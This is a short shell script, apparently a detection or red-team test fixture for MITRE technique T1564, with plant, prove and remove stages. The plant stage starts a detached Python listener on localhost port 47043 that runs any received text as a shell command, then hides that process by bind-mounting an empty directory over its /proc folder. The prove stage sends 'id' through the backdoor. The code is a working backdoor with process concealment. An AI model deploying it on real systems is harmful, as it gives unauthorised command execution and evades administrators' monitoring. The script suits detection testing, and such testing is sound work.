#!/bin/sh
# T1564 (loud): A process whose folder in /proc is covered by a mount
M=/var/tmp/luytre-foothold N=43-process-under-mount
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
bg() { setsid nohup "$@" </dev/null >/dev/null 2>&1 & sleep 1; }
ask() { python3 -c 'import socket, sys
import time
for n in range(20):
    try: s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), 5); break
    except OSError: time.sleep(0.25)
s.settimeout(5); s.sendall((sys.argv[2] + "\n").encode()); s.shutdown(1); d = b""
while True:
    try: b = s.recv(999)
    except OSError: break
    if not b: break
    d += b
print(d.decode("utf-8", "replace"))' "$1" "$2"; }
plant() {
bg sh -c 'exec python3 -c "
import socket,subprocess
s=socket.socket();s.setsockopt(1,2,1);s.bind((\"127.0.0.1\",47043));s.listen()
while 1:
    c,_=s.accept();c.sendall(subprocess.run(c.recv(999).decode(),shell=True,capture_output=True).stdout);c.close()
"'
pid=$(ss -ltnpH "sport = :47043" | sed -n 's/.*pid=\([0-9]*\).*/\1/p'); echo $pid >$M/$N.pid
[ -n "$pid" ] || return 1
mkdir -p /var/lib/.empty; mount --bind /var/lib/.empty /proc/$pid
}
prove() {
  rm -f "$M/$N"
  [ -z "$(ls /proc/$(cat $M/$N.pid))" ] && ask 47043 "id > /var/tmp/luytre-foothold/43-process-under-mount" && seen
}
remove() {
  p=$(cat $M/$N.pid); [ -n "$p" ] && umount /proc/$p && kill -9 $p; rmdir /var/lib/.empty
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
